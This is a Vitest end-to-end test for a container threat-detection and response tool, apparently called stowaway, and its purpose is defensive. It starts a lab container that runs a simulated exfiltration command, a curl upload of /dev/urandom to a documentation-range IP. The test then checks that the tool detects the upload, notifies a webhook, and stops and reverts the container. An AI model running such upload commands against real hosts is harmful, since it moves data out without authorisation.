import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { LAB_IMAGE } from '../src/emulate/lab/image.js';
import { type ChildProcess, end, start } from '../src/host/child.js';
import { inNetns } from '../src/host/programs.js';
import type { FindingPage } from '../src/model/live.js';
import { whySkip } from './live-lab.js';
import { RespondLab } from './respond-lab.js';

/**
 * The program as its users have it, each command a process of its own: `serve` watches the host by itself, a container uploads, the
 * finding names it, the webhook is told once, the terminal explains it, and a response stops it and lets it go on. The one thing
 * stated is the engine's socket, since the lab's engine is not where this host's would be, and the webhook.
 */

const skipped = await whySkip('the whole story', ['conntrack', 'lsns', 'ss', 'nft', 'tcpdump', 'curl']);

const PORT = 9000;
const UPLOAD = `cat /dev/urandom | curl -sS --limit-rate 2M -T - http://198.51.100.10:${PORT}/dump`;

/** A webhook's receiver, inside the lab: says each notice in a line. */
const RECEIVER = `
require('node:http').createServer((request, response) => {
  let text = '';
  request.on('data', (part) => { text += part; });
  request.on('end', () => { console.log(JSON.stringify(JSON.parse(text))); response.end('ok'); });
}).listen(8099, '127.0.0.1', () => console.log('{"what":"listens"}'));`;

interface Notice {
  what: string;
  alert?: { finding: { uid: string; entity: { name: string; container_uid: string | null } } };
}

describe.skipIf(skipped !== null)('a container uploads', () => {
  let lab: RespondLab;
  let folder: string;
  let receiver: ChildProcess;
  let server: ChildProcess;
  let victim: string;
  const said = { receiver: '', server: '' };

  /** In the lab's host, in a folder that holds stowaway.yaml, for a user whose state lies there. */
  const inLab = (...argv: string[]) =>
    start(inNetns(lab.netns, argv), {
      cwd: folder,
      env: { ...process.env, HOME: folder, XDG_STATE_HOME: join(folder, 'state') },
      stdio: ['ignore', 'pipe', 'pipe'],
    });

  /** What the command says; it must succeed. */
  async function stowaway(...words: string[]): Promise<string> {
    const child = inLab(process.execPath, lab.main, ...words);
    let out = '';
    let err = '';
    child.stdout!.setEncoding('utf8').on('data', (text) => (out += text));
    child.stderr!.setEncoding('utf8').on('data', (text) => (err += text));
    const code = await new Promise((resolve) => child.once('close', resolve));
    expect([words.join(' '), code, err]).toEqual([words.join(' '), 0, err]);
    return out;
  }

  const notices = (): Notice[] =>
    said.receiver
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => JSON.parse(line) as Notice);

  async function until(what: string, holds: () => Promise<boolean> | boolean, seconds = 60): Promise<void> {
    const end = Date.now() + seconds * 1000;
    while (!(await holds())) {
      if (Date.now() > end) throw new Error(`${what}: not within ${seconds} s; serve said: ${said.server}`);
      await sleep(200);
    }
  }

  async function moves(): Promise<void> {
    const before = lab.seen(PORT).bytes;
    await until('bytes at the sink', () => lab.seen(PORT).bytes - before > 300_000);
  }

  beforeAll(async () => {
    lab = await RespondLab.open();
    folder = join(lab.folder, 'user');
    await mkdir(folder, { mode: 0o700 });
    await writeFile(
      join(folder, 'stowaway.yaml'),
      `inputs: { host: { engine_socket: ${lab.socket} } }
respond: { engine_socket: ${lab.socket} }
notify:
  channels:
    - { name: soc, type: webhook, url: "http://127.0.0.1:8099/hook", insecure: true, allow_private: true }
`,
    );
    receiver = inLab(process.execPath, '-e', RECEIVER);
    receiver.stdout!.setEncoding('utf8').on('data', (text) => (said.receiver += text));
    await until('the receiver', () => said.receiver.includes('listens'));
    server = inLab(process.execPath, lab.main, 'serve');
    for (const stream of [server.stdout!, server.stderr!])
      stream.setEncoding('utf8').on('data', (text) => (said.server += text));
    await until('serve', () => said.server.includes('stowaway listens on'), 240);
  });

  afterAll(async () => {
    if (server) await end(server);
    if (receiver) await end(receiver);
    await lab?.close();
  });

  test('it is found, told once, explained, contained and let go', async () => {
    const { Id } = await lab.engine.post<{ Id: string }>('/containers/create?name=reports', {
      Image: LAB_IMAGE,
      Cmd: ['bash', '-c', UPLOAD],
      HostConfig: { NetworkMode: 'workloads', Init: true },
    });
    victim = Id;
    const begun = Date.now();
    await lab.engine.post(`/containers/${victim}/start`);
    await moves();

    let uid = '';
    await until(
      'the finding',
      async () => {
        const page = JSON.parse(await stowaway('findings', 'list', '--format', 'json')) as FindingPage;
        const found = page.findings.find(
          ({ finding }) => finding.technique === 'T1567' && finding.entity.container_uid === victim,
        );
        uid = found?.uid ?? '';
        return uid !== '';
      },
      120,
    );
    console.log(`found ${((Date.now() - begun) / 1000).toFixed(1)} s after the container was started`);

    const opened = () =>
      notices().filter(({ what, alert }) => what === 'opened' && alert?.finding.uid === uid);
    await until('the notice', () => opened().length > 0);
    expect(opened()[0]!.alert!.finding.entity).toMatchObject({ name: 'reports', container_uid: victim });

    const shown = await stowaway('findings', 'show', uid);
    for (const part of ['reports', 'T1567', '198.51.100.10', 'upload-tool', 'first-seen-destination'])
      expect(shown).toContain(part);

    await stowaway('findings', 'export', '-o', 'findings.json');
    const planned = JSON.parse(
      await stowaway('respond', 'plan', uid, '--findings', 'findings.json', '--format', 'json'),
    ) as { hash: string };
    await stowaway('respond', 'approve', planned.hash, '--by', 'alice');
    const applied = await stowaway('respond', 'apply', planned.hash);
    expect(applied).toContain('stopped');
    const still = lab.seen(PORT).bytes;
    await sleep(2000);
    expect(lab.seen(PORT).bytes).toBe(still);

    await stowaway('respond', 'revert', planned.hash, '--reason', 'the test is over');
    await moves();
    expect(opened()).toHaveLength(1);
    expect(said.server).not.toContain('"level":"error"');
  });
});
